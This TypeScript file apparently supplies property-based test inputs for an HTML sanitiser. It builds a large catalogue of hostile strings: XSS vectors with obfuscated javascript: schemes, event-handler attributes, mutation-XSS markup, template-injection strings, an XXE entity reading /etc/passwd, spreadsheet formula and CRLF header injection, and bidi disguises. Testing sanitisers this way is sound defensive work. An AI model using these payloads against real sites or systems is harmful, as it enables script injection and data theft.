import fc from 'fast-check';

/** Elements that run something, load something, or change how a parser reads what follows. */
const TAGS = `
script img svg math iframe object embed style link meta base form input button video audio source details
marquee template noscript xmp plaintext textarea title select option table td isindex foreignObject
annotation-xml mglyph animate set use image frameset frame applet keygen bgsound body html head dialog slot
portal mj-raw mj-include mj-text v:rect o:p x-any
`
  .trim()
  .split(/\s+/);

/** Attributes that run something. */
const EVENTS = `
onerror onload onclick onmouseover onfocus onblur ontoggle onbegin onend onanimationstart ontransitionend
onpointerrawupdate onbeforetoggle oncontentvisibilityautostatechange onhashchange onmessage onpageshow
onscrollend onwheel onloadstart onreadystatechange onsubmit
`
  .trim()
  .split(/\s+/);

/** Ways out of the attribute or the text the value stands in. */
const ESCAPES = ['"', "'", '`', '>', '">', "'>", '`>', '" ', "' ", '/>', '-->', ']]>', '</a>', '</title>'] as const;

/** Schemes nobody may follow, in the spellings parsers forgive. */
const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  ' javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61vascript:alert(1)',
  'javascript&#58;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://a.example/1',
  'filesystem:https://a.example/1',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  'livescript:x',
  'mocha:x',
  'jar:https://a.example!/',
  'mhtml:https://a.example',
  '//a.example/x.js',
  '\\\\a.example\\x',
  'https:a.example',
  'http://a.example@b.example',
  'ｊａｖａｓｃｒｉｐｔ:alert(1)',
  'javascript://%0aalert(1)',
] as const;

/** Texts some template, parser, spreadsheet or terminal takes for its own. */
const LANGUAGES = [
  '{{ 7 | times: 7 }}',
  '{% assign x = 1 %}{% include "x" %}',
  '{%- raw -%}',
  '{{{ x }}}',
  '<%= 7 * 7 %>',
  '<% x %>',
  '#{7*7}',
  '\u0024{7*7}',
  '\u0024{{7*7}}',
  '@{7*7}',
  '[[\u0024{7*7}]]',
  '*{7*7}',
  '{{constructor.constructor("alert(1)")()}}',
  '{{$on.constructor("alert(1)")()}}',
  '<?xml version="1.0"?>',
  '<?php echo 1 ?>',
  '<!DOCTYPE html>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '<![CDATA[<b>]]>',
  ']]><b>',
  '<!-- <b> --!>',
  '<!--><b>-->',
  '<!--[if IE]><b><![endif]-->',
  '<![if mso]><b><![endif]>',
  '&lt;b&gt;',
  '&amp;lt;b&amp;gt;',
  '&#60;b&#62;',
  '&#x3c;b&#x3e;',
  '&#0000060b>',
  '&lt',
  '&nbsp',
  '&NewLine;&Tab;',
  '\\u003cb\\u003e',
  '\\x3cb\\x3e',
  '%3Cb%3E',
  '+ADw-b+AD4-',
  '\uff1cb\uff1e',
  '\u02b9\u02ba',
  '\u003c\u0000b>',
  '<\u0000b>',
  '<b\u0000>',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "=cmd|' /C calc'!A0",
  '\u001b]0;x\u0007',
  '\u202ecod.exe',
  '\u2066x\u2069',
  '\ufeff<b>',
  '\ud800',
  '\udfff<b>',
  '[x](javascript:alert(1))',
  '![x](https://a.example/x)',
  '<https://a.example>',
  '`<b>`',
  '__proto__',
  'constructor',
  'x\r\nBcc: ai@example.vn',
  'x\r\n\r\n<b>',
  'x\u2028y',
  'x\u2029y',
  'x\u0085y',
  '=?UTF-8?B?PGI+?=',
  '.\r\n.\r\n',
  '--boundary\r\nContent-Type: text/html\r\n\r\n<b>',
  'expression(alert(1))',
  'x:expression(alert(1))',
  '}</style><b>',
  '*/}body{background:url(//a.example)}',
  'url(javascript:alert(1))',
  '@import "//a.example/x.css";',
  '-moz-binding:url(//a.example)',
  'behavior:url(x.htc)',
] as const;

/** Words with which pages clobber what scripts look up. */
const NAMES = [
  'body',
  'cookie',
  'forms',
  'attributes',
  'nodeName',
  'getElementById',
  'createElement',
  '__proto__',
] as const;

/** Markup that changes its meaning when it is parsed, printed and parsed again. */
const MUTATIONS = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=alert(1)//"></svg>',
  '<template><template><script>alert(1)</script></template></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=1 onerror=alert(1)>">',
  '<title><img title="</title><img src=1 onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<a href="\u0001javascript:alert(1)"><svg><desc><a></desc><img src=1 onerror=alert(1)>',
] as const;

/** A piece of hostile markup by rule: a tag, an attribute that runs something, a quote, a spelling and a way out of where it stands. */
export const HOSTILE_MARKUP: fc.Arbitrary<string> = fc
  .record({
    out: fc.constantFrom('', ...ESCAPES),
    tag: fc.constantFrom(...TAGS),
    event: fc.constantFrom(...EVENTS),
    quote: fc.constantFrom('"', "'", '`', ''),
    space: fc.constantFrom(' ', '/', '\n', '\t', '\u000c', '\u0000', ' x '),
    end: fc.constantFrom('>', '/>', ' >', '', '<', '\u0000>'),
    spell: fc.constantFrom<(text: string) => string>(
      (text) => text,
      (text) => text.toUpperCase(),
      (text) => [...text].map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)).join(''),
      (text) => text.replace('a', '&#97;').replace('<', '&lt;'),
      (text) => text.replace(/[<>]/gu, (sign) => (sign === '<' ? '\uff1c' : '\uff1e')),
      (text) => encodeURIComponent(text),
    ),
  })
  .map(({ out, tag, event, quote, space, end, spell }) =>
    spell(`${out}<${tag}${space}${event}=${quote}alert(1)${quote}${end}`),
  );

/** At least 700 strings that would become markup, script, a scheme, a template, a header or a disguise somewhere; each its own. */
export const HOSTILE_VECTORS: readonly string[] = [
  ...new Set([
    ...TAGS.flatMap((tag) => [
      `<${tag}>alert(1)</${tag}>`,
      `<${tag} src=//a.example onload=alert(1)>`,
      `<${tag.toUpperCase()}/onfocus="alert(1)" autofocus>`,
      `</${tag}><b>`,
      `<${tag}\n\t\u000cid=x\r>`,
    ]),
    ...EVENTS.flatMap((event) => [
      `<img src=x ${event}=alert(1)>`,
      `" ${event}="alert(1)`,
      `' ${event}='alert(1)`,
      `<x ${event.toUpperCase()}=\`alert(1)\`>`,
      `<svg/${event}=alert&#40;1&#41;//`,
    ]),
    ...ESCAPES.flatMap((out) => [
      `${out}<script>alert(1)</script>`,
      `${out}<img src=x onerror=alert(1)>`,
      `${out} style=x:y ${out}`,
      `${out}${out}`,
    ]),
    ...SCHEMES.flatMap((scheme) => [
      scheme,
      `<a href="${scheme}">x</a>`,
      `"><a href='${scheme}'>`,
      `<img src="${scheme}">`,
      `<form action="${scheme}">`,
      `<meta http-equiv=refresh content="0;url=${scheme}">`,
    ]),
    ...LANGUAGES,
    ...NAMES.flatMap((name) => [`<img name=${name}>`, `<form id=${name}><input id=${name}>`]),
    ...MUTATIONS,
  ]),
];
